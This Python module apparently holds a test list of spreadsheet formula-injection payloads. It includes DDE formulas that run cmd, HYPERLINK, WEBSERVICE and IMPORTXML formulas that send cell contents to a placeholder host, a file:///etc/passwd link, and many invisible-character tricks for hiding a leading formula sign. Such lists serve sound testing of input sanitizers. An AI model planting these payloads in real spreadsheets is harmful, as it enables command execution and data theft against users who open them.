"""What people write into cells so that a spreadsheet program runs it: formulas, DDE, links, and ways to hide the sign that they begin with."""

SIGNS = ("=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0")
LINKS = (
    '=HYPERLINK("http://a.example/?x="&A1,"详情")',
    '=WEBSERVICE("http://a.example/"&A1)',
    "=IMPORTXML(CONCAT(\"http://a.example/?v=\",A1),\"//a\")",
    '=DDE("cmd";"/C calc";"!A0")',
    "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!A0",
    '=IMAGE("http://a.example/a.png")',
    "http://a.example/",
    "mailto:a@a.example",
    "file:///etc/passwd",
    "internal:清单!A1",
    "external:c:\\a.xlsx",
)
HIDDEN = (
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u3000=1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u2060=1+1", "\u00ad=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\u200b＝1+1",
    "'=1+1", '"=1+1"', "甲\n=1+1", "甲;=1+1", "甲\t=1+1", "{=1+1}", "%0A=1+1", "﹦1+1", "\u202e=1+1",
)  # fmt: skip
PAYLOADS = SIGNS + LINKS + HIDDEN
assert len(PAYLOADS) >= 40
